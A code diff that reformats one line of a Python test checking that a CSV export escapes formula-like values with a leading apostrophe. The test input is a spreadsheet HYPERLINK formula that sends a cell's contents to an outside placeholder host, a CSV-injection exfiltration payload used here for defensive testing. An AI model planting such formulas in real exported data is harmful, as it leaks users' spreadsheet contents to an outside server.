@@ -167,7 +167,9 @@ def test_cells_a_spreadsheet_would_run_are_written_as_text(ctx: Context, project
     """A text value that begins like a formula gets a leading apostrophe (a spreadsheet then
     shows it as text); other values stay as they are."""
     formula = '=HYPERLINK("http://example.org/?x="&A1,"open")'
-    records.put(ctx, SYSTEM, Target(project, "S2"), {"notes": formula, "diagnosis": "AD", "weight": 70.5})
+    records.put(
+        ctx, SYSTEM, Target(project, "S2"), {"notes": formula, "diagnosis": "AD", "weight": 70.5}
+    )
     out = export(ctx, SYSTEM, project)
     rows = list(csv.DictReader(io.StringIO(out.content)))
     assert rows[0]["notes"] == "'" + formula and rows[0]["weight"] == "70.5"
